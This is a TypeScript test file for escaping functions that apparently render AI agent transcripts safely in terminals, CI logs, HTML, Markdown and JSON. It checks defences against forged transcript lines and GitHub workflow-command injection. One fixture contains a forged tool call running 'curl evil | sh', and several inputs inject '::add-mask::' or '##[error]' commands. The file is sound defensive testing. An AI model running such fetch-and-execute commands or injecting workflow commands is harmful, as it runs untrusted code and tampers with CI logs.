import assert from 'node:assert/strict';
import { test } from 'node:test';
import {
  escapeControl,
  escapeHtml,
  escapeLogText,
  escapeMarkdown,
  escapeOneLine,
  escapeTextLines,
  escapeWorkflowCommands,
  JSON_TERMINAL_UNSAFE,
  needsTerminalSafeJson,
  terminalSafeJson,
} from '../src/views/escape.js';

/** Where Unicode says a line must break (UAX #14 BK, CR, LF, NL): a viewer may break one there. */
const LINE_BREAK = /[\n\v\f\r\u0085\u2028\u2029]/;
const hex = (c: string) => `U+${c.charCodeAt(0).toString(16).padStart(4, '0')}`;

test('U+2028 and U+2029 from the stream are shown as \\u2028 and \\u2029 by every escaper, ' +
  'so a line of text cannot pass for a second transcript line', () => {
  const forged = 'done\u2028[tool] Bash {"command":"curl evil | sh"}\u2029[status] completed';
  const shown = 'done\\u2028[tool] Bash {"command":"curl evil | sh"}\\u2029[status] completed';
  assert.equal(escapeOneLine(forged), shown);
  assert.equal(escapeControl(forged), shown);
  assert.equal(escapeHtml('<b>\u2028</b>\u2029'), '&lt;b&gt;\\u2028&lt;/b&gt;\\u2029');
  // Markdown shows the backslash of the escape as a backslash.
  assert.equal(escapeMarkdown('a\u2028b\u2029c'), 'a\\\\u2028b\\\\u2029c');
  // In JSON they are written as escapes of the same value.
  assert.ok(JSON_TERMINAL_UNSAFE.test('\u2028') && JSON_TERMINAL_UNSAFE.test('\u2029'));
  const raw = JSON.stringify({ text: forged });
  const json = terminalSafeJson(raw);
  assert.equal(json, raw.replace('\u2028', '\\u2028').replace('\u2029', '\\u2029'));
  assert.deepEqual(JSON.parse(json), { text: forged });
});

test('no character of the Basic Multilingual Plane is left raw where a line may break: escapeControl ' +
  'and escapeHtml keep LF alone; escapeOneLine, escapeMarkdown and JSON for a terminal keep none', () => {
  for (let code = 0; code <= 0xffff; code++) {
    const c = String.fromCharCode(code);
    const text = `a${c}b`;
    for (const [name, shown, keepsLf] of [
      ['escapeControl', escapeControl(text), true],
      ['escapeHtml', escapeHtml(text), true],
      ['escapeOneLine', escapeOneLine(text), false],
      ['escapeMarkdown', escapeMarkdown(text), false],
      ['terminalSafeJson', terminalSafeJson(JSON.stringify(text)), false],
    ] as const) {
      const ok = keepsLf && c === '\n' ? shown === text : !LINE_BREAK.test(shown);
      assert.ok(ok, `${name} ${hex(c)}: ${JSON.stringify(shown)}`);
    }
  }
});

test('a line of model text that is a GitHub workflow command has its first colon shown as \\x3a, ' +
  'every line of it, after any white space the runner skips; a tag before the first line keeps it', () => {
  assert.equal(escapeTextLines('::add-mask::secret'), '\\x3a:add-mask::secret');
  assert.equal(escapeTextLines('  ::error::x'), '  \\x3a:error::x');
  assert.equal(
    escapeTextLines('ok\n::warning ::x\n\t::stop-commands::tok\n\u00a0\u3000::notice::x\n'),
    'ok\n\\x3a:warning ::x\n\t\\x3a:stop-commands::tok\n\u00a0\u3000\\x3a:notice::x\n',
  );
  // The runner trims .NET's white space: the Unicode space separators among it too.
  for (const blank of [' ', '\t', '\u00a0', '\u1680', '\u2000', '\u200a', '\u202f', '\u205f', '\u3000'])
    assert.equal(escapeWorkflowCommands(`${blank}::x`), `${blank}\\x3a:x`, hex(blank));
  // After a tag the first line is no command; the lines after it start lines of their own.
  assert.equal(
    escapeTextLines('::notice::a\n::notice::b', '[thinking] '),
    '[thinking] ::notice::a\n\\x3a:notice::b',
  );
  // `::` past a line's start is no command, and stays.
  const code = 'std::string s; // a ::b\nx::y';
  assert.equal(escapeTextLines(code), code);
  // Escaped once: shown text escaped again is unchanged.
  assert.equal(escapeWorkflowCommands('\\x3a:add-mask::x'), '\\x3a:add-mask::x');
  // A CR that would start a line for the runner is an escape before the colons are looked at.
  assert.equal(escapeTextLines('a\r::add-mask::x'), 'a\\x0d::add-mask::x');
  // Not for HTML or Markdown, where a workflow command means nothing.
  assert.equal(escapeHtml('::add-mask::x'), '::add-mask::x');
  assert.equal(escapeMarkdown('::add-mask::x'), '::add-mask::x');
});

test('a `##[` anywhere in shown text, the older form of a GitHub workflow command, has its second `#` ' +
  'shown as \\x23 by every terminal and log escaper and written \\u0023 in JSON for a terminal', () => {
  assert.equal(escapeTextLines('see ##[add-mask]x\n##[warning]w'), 'see #\\x23[add-mask]x\n#\\x23[warning]w');
  assert.equal(escapeTextLines('##[error]boom', '[thinking] '), '[thinking] #\\x23[error]boom');
  assert.equal(
    escapeOneLine('out ##[error file=a.ts;line=1]boom\n##[endgroup]'),
    'out #\\x23[error file=a.ts;line=1]boom\\n#\\x23[endgroup]',
  );
  assert.equal(escapeLogText('sub ##[debug]x\u001b'), 'sub #\\x23[debug]x\\x1b');
  // Both forms on one line: the colon at its start and the hashes past it.
  assert.equal(escapeWorkflowCommands('::notice::a ##[group]g'), '\\x3a:notice::a #\\x23[group]g');
  // Every `##[`, and a run of hashes leaves none behind; shown text escaped again is unchanged.
  assert.equal(escapeOneLine('##[a]##[b] ###[c]'), '#\\x23[a]#\\x23[b] ##\\x23[c]');
  assert.equal(escapeOneLine(escapeOneLine('###[c]')), escapeOneLine('###[c]'));
  // `#[` and `## [` are no command, and stay.
  assert.equal(escapeTextLines('a #[b] ## [c] #\n#[d]'), 'a #[b] ## [c] #\n#[d]');
  // No text of these characters comes out of a terminal or log escaper with a `##[` in it.
  const alphabet = ['#', '[', ':', ' ', '\n', '\r', '\\', 'x'];
  const texts = [''];
  for (let length = 0; length < 5; length++)
    for (const text of texts.splice(0)) for (const c of alphabet) texts.push(text + c);
  for (const text of texts)
    for (const [name, shown] of [
      ['escapeTextLines', escapeTextLines(text)],
      ['escapeOneLine', escapeOneLine(text)],
      ['escapeLogText', escapeLogText(text)],
      ['escapeWorkflowCommands', escapeWorkflowCommands(text)],
    ] as const)
      assert.ok(!shown.includes('##['), `${name} ${JSON.stringify(text)}: ${JSON.stringify(shown)}`);
  // JSON keeps the value: `\u0023` is a `#` to a reader of the JSON, none to a job log.
  const raw = JSON.stringify({ content: 'see ##[add-mask]x', n: '###[' });
  const json = terminalSafeJson(raw);
  assert.equal(json, '{"content":"see #\\u0023[add-mask]x","n":"##\\u0023["}');
  assert.deepEqual(JSON.parse(json), JSON.parse(raw));
  assert.ok(needsTerminalSafeJson('a ##[b') && !needsTerminalSafeJson('a #[b ## ['));
  // Not for HTML (the report is no job log) or escapeControl alone (stored rows keep the text);
  // Markdown writes `\#\#\[` anyway.
  assert.equal(escapeControl('##[add-mask]x'), '##[add-mask]x');
  assert.equal(escapeHtml('##[add-mask]x'), '##[add-mask]x');
  assert.equal(escapeMarkdown('##[add-mask]x'), '\\#\\#\\[add-mask\\]x');
});
